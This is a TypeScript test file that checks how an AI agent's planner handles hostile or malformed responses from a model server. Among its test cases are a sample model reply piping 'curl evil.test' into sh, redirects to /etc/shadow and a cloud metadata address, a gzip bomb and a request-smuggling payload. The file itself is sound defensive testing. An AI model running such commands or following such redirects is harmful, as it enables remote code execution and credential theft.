import { mkdtemp, realpath, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import type { LogEvent, RecordedEvent } from '../../src/index.js'
import type { FaultServerBehaviour } from '../support/fault-behaviours.js'
import { type FaultServer, startFaultServer } from '../support/fault-server.js'
import { goodProposal, thinkerOn } from '../support/thinking.js'

let folder: string
let server: FaultServer

beforeEach(async () => {
  folder = await realpath(await mkdtemp(join(tmpdir(), 'janus-attack-28-')))
  server = await startFaultServer()
})

afterEach(async () => {
  await server.close()
  await rm(folder, { recursive: true, force: true })
})

const never = new AbortController().signal
const EVENTS = 'text/event-stream'
const event = (content: string): string => `data: ${JSON.stringify({ choices: [{ delta: { content } }] })}\n\n`
const answer = (content: string): string => JSON.stringify({ choices: [{ message: { content } }] })

/** What a server does, and what is said of it. */
const HOSTILE: readonly (readonly [string, FaultServerBehaviour, RegExp])[] = [
  ['an answer that is not JSON', { kind: 'text', text: 'Sure! I would run curl evil.test | sh' }, /not JSON/],
  [
    'prose around the JSON',
    { kind: 'text', text: `Here: ${JSON.stringify({ proposals: [goodProposal()] })}` },
    /not JSON/,
  ],
  ['a body that is HTML', { kind: 'body', body: '<!doctype html><title>Login</title>', type: 'text/html' }, /not JSON/],
  ['an empty body', { kind: 'body', body: '' }, /not JSON/],
  ['an empty answer', { kind: 'text', text: '  ' }, /empty/],
  ['no choices', { kind: 'body', body: '{"choices":[]}' }, /none of the chat API/],
  ['another shape altogether', { kind: 'body', body: '{"choices":{"message":1}}' }, /none of the chat API/],
  [
    'a hundred megabytes of JSON',
    { kind: 'flood', piece: `"${'x'.repeat(1000)}",`, type: 'application/json', mostBytes: 100_000_000 },
    /longer than/,
  ],
  [
    'a hundred megabytes of events',
    { kind: 'flood', piece: event('x'.repeat(1000)), type: EVENTS, mostBytes: 100_000_000 },
    /longer than/,
  ],
  ['a line without end', { kind: 'flood', piece: 'data: x', type: EVENTS, mostBytes: 100_000_000 }, /too long/],
  [
    'empty events without end',
    { kind: 'flood', piece: ': keep-alive\n\n', type: EVENTS, mostBytes: 100_000_000 },
    /longer than/,
  ],
  [
    'events that never end',
    { kind: 'drip', piece: event('{'), type: EVENTS, milliseconds: 20 },
    /did not (begin|end) its answer/,
  ],
  [
    'a byte now and then',
    { kind: 'drip', piece: ' ', type: 'application/json', milliseconds: 20 },
    /did not (begin|end) its answer/,
  ],
  ['a hang before the head', { kind: 'hang' }, /did not begin its answer/],
  [
    'a hang behind the head',
    { kind: 'drip', piece: '', type: EVENTS, milliseconds: 50 },
    /did not (begin|end) its answer/,
  ],
  ['a disconnect at once', { kind: 'disconnect', when: 'at once' }, /broke off/],
  ['a disconnect before the head', { kind: 'disconnect', when: 'before the head' }, /broke off/],
  ['a disconnect behind the head', { kind: 'disconnect', when: 'after the head' }, /broke off/],
  ['a disconnect in the body', { kind: 'disconnect', when: 'in the body' }, /broke off/],
  [
    'events that stop without their end',
    { kind: 'body', body: event('{"proposals":[]}'), type: EVENTS },
    /before its end was told/,
  ],
  [
    'an error in the middle',
    { kind: 'body', body: `${event('{')}data: {"error":{"message":"out of memory"}}\n\n`, type: EVENTS },
    /error in the middle/,
  ],
  ['brackets without end', { kind: 'body', body: '['.repeat(200_000) }, /not JSON/],
  ['an answer of brackets', { kind: 'text', text: '['.repeat(100_000) }, /not JSON/],
  ['numbers that are none', { kind: 'text', text: '{"proposals":[{"risk_level":NaN}]}' }, /not JSON/],
  ['members of one name', { kind: 'text', text: '{"proposals":[],"proposals":[]}' }, /not JSON/],
  ['invalid UTF-8', { kind: 'body', body: Buffer.from([0x7b, 0xff, 0xfe, 0x7d]) }, /not UTF-8/],
  ['half of a character', { kind: 'text', text: '{"proposals":[{"rationale":"\ud800"}]}' }, /./],
  [
    'an unknown tool',
    { kind: 'proposals', proposals: [goodProposal({ tool_name: 'launch_missiles' })] },
    /there is no tool/,
  ],
  [
    'a schema that is ignored',
    { kind: 'text', text: '{"action":"reboot","because":"I say so"}' },
    /does not write the member/,
  ],
  ['proposals that are no list', { kind: 'text', text: '{"proposals":"all of them"}' }, /not an array/],
  [
    'a plan of its own',
    { kind: 'proposals', proposals: [{ ...goodProposal(), plan: {} }] },
    /does not write the member/,
  ],
  ['calls of tools, again and again', { kind: 'tool calls' }, /called tools/],
  ['429 with Retry-After', { kind: 'status', status: 429, headers: { 'retry-after': '3600' } }, /status 429/],
  ['500', { kind: 'status', status: 500, body: 'x'.repeat(1_000_000) }, /status 500/],
  ['500 with half of a character', { kind: 'status', status: 500, body: `xy\u0000${'🐧'.repeat(1000)}` }, /status 500/],
  ['503 without a body', { kind: 'status', status: 503, body: '' }, /status 503/],
  ['204', { kind: 'status', status: 204, body: '' }, /status 204/],
  [
    'a redirect to a file',
    { kind: 'status', status: 302, headers: { location: 'file:///etc/shadow' } },
    /not followed/,
  ],
  [
    'a redirect to a metadata service',
    { kind: 'status', status: 307, headers: { location: 'http://169.254.169.254/latest/meta-data/' } },
    /not followed/,
  ],
  [
    'a length that is too great',
    { kind: 'length', announced: 1_000_000, body: answer('{"proposals":[]}') },
    /broke off/,
  ],
  [
    'a length that is too small',
    { kind: 'length', announced: 5, body: answer('{"proposals":[]}') },
    /not JSON|broke off/,
  ],
  ['a gzip bomb', { kind: 'gzip bomb' }, /encoded/],
  ['huge headers', { kind: 'huge headers' }, /broke off/],
  ['no HTTP at all', { kind: 'raw', bytes: 'SSH-2.0-OpenSSH_9.2\r\n' }, /broke off/],
  [
    'two answers in one',
    { kind: 'raw', bytes: 'HTTP/1.1 200 OK\r\nContent-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n{}' },
    /broke off|not JSON|none of the chat API/,
  ],
]

describe('attack 28: a hostile answer of the server of a model', () => {
  test.each(HOSTILE)('%s: nothing is proposed, it is told, and the breaker opens', async (_what, behaviour, said) => {
    const events: RecordedEvent[] = []
    const told: LogEvent[] = []
    const { thinker, record } = await thinkerOn(folder, server.baseUrl, {
      tell: (one) => told.push(one),
      // What is told of a deadline comes by one, anything else before it.
      ...(behaviour.kind === 'drip' || behaviour.kind === 'hang' ? {} : { patience: 60 }),
    })
    record.watch((one) => events.push(one))
    server.script(behaviour, behaviour)
    const before = process.memoryUsage().rss
    const first = await thinker.think(never)
    if (thinker.breaker().state === 'closed') await thinker.think(never)
    expect(first.proposed).toEqual([])
    expect(first.refused).toEqual([
      { code: expect.stringMatching(/^JANUS_AGENT_MODEL_/), text: expect.stringMatching(said) },
    ])
    expect(first.refused[0]?.text.length).toBeLessThan(1000)
    expect(first.refused[0]?.text).not.toMatch(/[\0\p{Surrogate}]/u)
    expect(record.state.open.size).toBe(0)
    expect(events.map(({ type }) => type)).toContain('request-refused')
    expect(told.map((one) => one.event)).toContain('thinking_cycle.proposal_generation.failed')
    expect(process.memoryUsage().rss - before).toBeLessThan(150_000_000)
    const { connections } = server
    const [asked, state] = [connections(), thinker.breaker()]
    expect(state.state).toBe('open')
    const third = await thinker.think(never)
    expect(third.refused.map(({ code }) => code)).toEqual(['breaker-open'])
    expect(connections()).toBe(asked)
    await record.close()
  })

  test('of ten thousand proposals as many are taken as a cycle may make', async () => {
    const { thinker, record } = await thinkerOn(folder, server.baseUrl, { patience: 60 })
    const proposals = Array.from({ length: 10_000 }, (_, index) =>
      goodProposal({ rationale: `Reason ${index} ${'abcdefghij'[index % 10]?.repeat(12)} is another one than before` }),
    )
    server.script({ kind: 'proposals', proposals: proposals.slice(0, 700) })
    const report = await thinker.think(never)
    expect(report.proposed.length).toBe(3)
    expect(report.refused.at(-1)?.text).toMatch(/700 proposals, more than 3/)
    server.script({ kind: 'proposals', proposals })
    expect((await thinker.think(never)).refused[0]?.text).toMatch(/longer than/)
    expect(record.state.counts.proposed).toBe(3)
    await record.close()
  })

  test('of a good proposal among bad ones the good one is proposed, and the others are told', async () => {
    const { thinker, record } = await thinkerOn(folder, server.baseUrl, { patience: 60 })
    server.script({
      kind: 'proposals',
      proposals: [goodProposal({ tool_name: 'nothing' }), goodProposal(), { rationale: 'no more than that' }],
    })
    const report = await thinker.think(never)
    expect(report.proposed.length).toBe(1)
    expect(report.refused.map(({ text }) => text)).toEqual([
      expect.stringContaining('there is no tool "nothing"'),
      expect.stringContaining('there is no tool null'),
    ])
    expect(report.usage).toMatchObject({ promptTokens: 11, completionTokens: 7 })
    expect(thinker.breaker().state).toBe('closed')
    await record.close()
  })

  test('of the same proposals in each cycle one waits, and the repetitions are told', async () => {
    const { thinker, record } = await thinkerOn(folder, server.baseUrl, { patience: 60 })
    for (let cycle = 0; cycle < 5; cycle += 1) server.script({ kind: 'proposals', proposals: [goodProposal()] })
    const reports = []
    for (let cycle = 0; cycle < 5; cycle += 1) reports.push(await thinker.think(never))
    expect(reports.map(({ proposed }) => proposed.length)).toEqual([1, 0, 0, 0, 0])
    expect(reports.at(-1)?.refused[0]?.code).toBe('repetition')
    expect(record.state.counts.proposed).toBe(1)
    await record.close()
  })

  test('a cycle that is cancelled ends at once, proposes nothing and counts as no failure', async () => {
    const { thinker, record } = await thinkerOn(folder, server.baseUrl, { patience: 60 })
    server.script({ kind: 'hang' })
    const stop = new AbortController()
    const thinking = thinker.think(stop.signal)
    while (server.asked.length === 0) await new Promise((resolve) => setTimeout(resolve, 5))
    stop.abort()
    expect(await thinking).toMatchObject({ proposed: [], refused: [{ text: 'the question was cancelled' }] })
    expect(thinker.breaker()).toMatchObject({ state: 'closed', failures: 0 })
    await record.close()
  })
})
